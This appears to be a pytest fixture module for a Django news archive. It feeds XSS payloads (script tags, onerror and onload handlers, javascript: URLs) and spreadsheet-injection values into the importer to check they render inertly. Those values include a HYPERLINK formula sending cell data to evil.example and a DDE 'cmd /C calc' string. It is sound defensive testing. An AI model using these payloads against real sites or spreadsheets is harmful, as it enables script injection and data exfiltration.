"""Hostile and malformed input: the archive as an attacker and a broken scraper feed it.

`hostile_archive` imports documents carrying markup, event handlers, javascript: URLs and
spreadsheet formulas through the real importer, then adds what the importer cannot carry
(a person's name and a meeting's place are never markup when extracted) as records made
directly. `inert_html` is the one definition of "rendered harmlessly" the tests share.
"""

import json
from datetime import date
from types import SimpleNamespace

import lxml.html
import pytest
from django.contrib.auth.models import User
from django.test import Client
from hypothesis import HealthCheck, settings

from archive.curation import refresh_mentioned
from archive.ingest.store import Importer, load_gazetteer
from archive.models import (
    Article,
    ArticleSource,
    Meeting,
    MeetingReport,
    Mention,
    Organization,
    Outlet,
    Participation,
    Person,
    PersonAlias,
    Position,
    Quote,
)
from tests.ingest.gazetteer_data import gazetteer

# Examples are drawn the same way on every run (derandomize) and no example database is
# written into the work tree: a failure prints its example, and reruns reproduce it.
FUZZ = settings(
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def fuzz(examples):
    """Hypothesis settings for one test: `examples` cases, budgeted so the whole hostile
    suite stays near a minute."""
    return settings(FUZZ, max_examples=examples)


TODAY = date(2026, 11, 21)
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
LINK = '<a href="javascript:alert(1)">click</a>'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'

# A text dump (TASS, with a meeting, a quote and markup in the title, body and quote).
HOSTILE_DUMP = f""" date 2024-10-14 https://tass.com/defense/9990001
{SCRIPT} Belousov and Dong Jun hold talks {IMG}
BEIJING, October 14. /TASS/. Russian Defense Minister Andrei Belousov held talks with Chinese Defense Minister Dong Jun in Beijing on Monday {SCRIPT} {IMG}.
"{SCRIPT} Our relations are at their <b>highest</b> level {IMG}," Belousov said.
The ministers discussed joint exercises, {LINK} and <iframe src="javascript:alert(2)"></iframe> military cooperation.
"""

# A JSON record from an outlet named with markup, and one whose title is a formula.
HOSTILE_RECORD = {
    "title": f"{SCRIPT}{IMG} Dong Jun receives Gerasimov",
    "outlet": "<script>alert('outlet')</script><b onmouseover=alert(1)>Evil Daily</b>",
    "published": "2024-11-02",
    "language": "en",
    "body": (
        f"BEIJING, Nov. 2 -- Chinese Defense Minister Dong Jun met Valery Gerasimov, chief of "
        f"the Russian General Staff, in Beijing on Saturday. {SCRIPT} {LINK}\n\n"
        f'"{IMG} Military ties keep growing," Dong said. <svg onload=alert(1)>'
    ),
}
FORMULA_RECORD = {
    "title": FORMULA,
    "outlet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "published": "2024-11-03",
    "language": "en",
    "body": "+1+1 -2+3 Andrei Belousov spoke about exercises and cooperation for some time.",
}
# An HTML page whose canonical URL and site name are hostile.
HOSTILE_PAGE = f"""<!doctype html><html><head>
<title>{SCRIPT} Gerasimov visits Beijing</title>
<meta property="og:site_name" content="&lt;script&gt;alert('site')&lt;/script&gt;">
<link rel="canonical" href="javascript:alert('canonical')">
<script>alert('page')</script></head><body><article>
<h1>Gerasimov visits Beijing</h1>
<p>BEIJING, March 3 -- Valery Gerasimov, chief of the Russian General Staff, visited Beijing
on Tuesday &lt;script&gt;alert(3)&lt;/script&gt; and met Dong Jun for talks on exercises.</p>
<p>The two sides agreed to hold more joint exercises &lt;img src=x onerror=alert(4)&gt; next
year, and discussed training, logistics and cooperation at length.</p>
</article></body></html>"""

EVIL_NAME = f"Colonel-General <b>Evil</b> Name {SCRIPT}"


@pytest.fixture
def hostile_archive(db, tmp_path):
    """Hostile documents imported the way a curator would, plus hostile records made
    directly; returned as a namespace (`w.dump`, `w.record`, `w.evil`, ...)."""
    load_gazetteer(gazetteer())
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "a-dump.txt").write_text(HOSTILE_DUMP)
    (folder / "b-record.json").write_text(json.dumps(HOSTILE_RECORD))
    (folder / "c-formula.json").write_text(json.dumps(FORMULA_RECORD))
    (folder / "d-page.html").write_text(HOSTILE_PAGE)
    results = list(Importer(today=TODAY).import_paths([str(folder)]))
    failed = [(r.source, r.message) for r in results if r.status == "failed"]
    assert not failed, failed

    w = SimpleNamespace(results=results)
    w.dump = Article.objects.get(url="https://tass.com/defense/9990001")
    w.record = Article.objects.get(title__startswith=SCRIPT + IMG)
    w.formula = Article.objects.get(title=FORMULA)
    w.page = Article.objects.get(title__contains="Gerasimov visits Beijing")
    w.evil_outlet = Outlet.objects.get(name__startswith="<script>alert('outlet')")
    w.tass = Outlet.objects.get(slug="tass")
    w.belousov = Person.objects.get(slug="andrei-belousov")
    w.dong = Person.objects.get(slug="dong-jun")
    w.meeting = Meeting.objects.filter(reports__article=w.dump).distinct().get()
    assert Quote.objects.filter(article=w.dump, text__contains="<script>").exists()

    # What extraction cannot produce: markup in names, places, roles and notes.
    w.evil = Person.objects.create(
        name=EVIL_NAME, slug="evil-name", country="RU", notes=f"{IMG}\n{LINK}"
    )
    PersonAlias.objects.create(person=w.evil, name=f"Evil {IMG}")
    w.evil_org = Organization.objects.create(name=f"{SCRIPT} Directorate", slug="evil-org")
    Position.objects.create(
        person=w.evil, title=f"Head {SCRIPT}", organization=w.evil_org, start_date=date(2020, 1, 1)
    )
    start = w.dump.body.find("Monday")
    Mention.objects.create(article=w.dump, person=w.evil, start=start, end=start + 6, text="Monday")
    Mention.objects.create(article=w.dump, organization=w.evil_org, start=0, end=7, text="BEIJING")
    refresh_mentioned(Article.objects.filter(pk=w.dump.pk))  # as the admin does for a new mention
    Quote.objects.create(article=w.record, person=w.evil, text=f"{SCRIPT} {IMG} said evil")
    Participation.objects.create(meeting=w.meeting, person=w.evil, role_title=f"{IMG} attaché")
    w.evil_meeting = Meeting.objects.create(
        date=date(2024, 11, 2), date_precision="day", place=f"{SCRIPT} Beijing", summary=IMG
    )
    Participation.objects.create(meeting=w.evil_meeting, person=w.evil, evidence=SCRIPT)
    Participation.objects.create(meeting=w.evil_meeting, person=w.dong, role_title=SCRIPT)
    MeetingReport.objects.create(meeting=w.evil_meeting, article=w.record, evidence=IMG)
    ArticleSource.objects.create(
        article=w.dump,
        outlet=w.evil_outlet,
        url="javascript:alert('source')",
        raw_text=SCRIPT,
        raw_hash="f" * 64,
        published_date=date(2024, 10, 15),
    )
    return w


@pytest.fixture
def superuser_client(db):
    user = User.objects.create_superuser("root", "root@example.org", "a-long-test-password")
    client = Client()
    client.force_login(user)
    return client


# What "rendered harmlessly" means ---------------------------------------------------------

_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster")


def live_markup(html):
    """Markup in `html` that would run or inject: a list of descriptions, empty if inert.

    Hostile text shown escaped is text, not markup, so the checks read the parsed tree:
    scripts without a file, event-handler attributes, javascript: URLs, and the elements
    the hostile fixtures carry (<img src=x>, <b>Evil</b>, <iframe>, <svg onload>).
    """
    found = []
    if "<script>alert" in html.lower():
        found.append("<script>alert in the source")
    tree = lxml.html.fromstring(html)
    for script in tree.iter("script"):
        if not script.get("src") and script.get("type") != "application/json":
            found.append(f"inline script: {lxml.html.tostring(script)[:80]!r}")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"<{element.tag} {name}=...>")
            if name.lower() in _URL_ATTRIBUTES and _scheme(value) in {"javascript", "data"}:
                found.append(f'<{element.tag} {name}="{value[:40]}">')
    found += [f"<img src={i.get('src')}>" for i in tree.iter("img") if i.get("src") == "x"]
    found += ["<b>Evil</b>" for b in tree.iter("b") if "Evil" in (b.text or "")]
    found += ["<iframe>" for _ in tree.iter("iframe")]
    return found


def _scheme(url):
    text = "".join(ch for ch in url if not ch.isspace() and ch.isprintable()).lower()
    return text.split(":", 1)[0] if ":" in text else ""


def assert_inert(html, where=""):
    found = live_markup(html)
    assert not found, f"{where}: {found}"
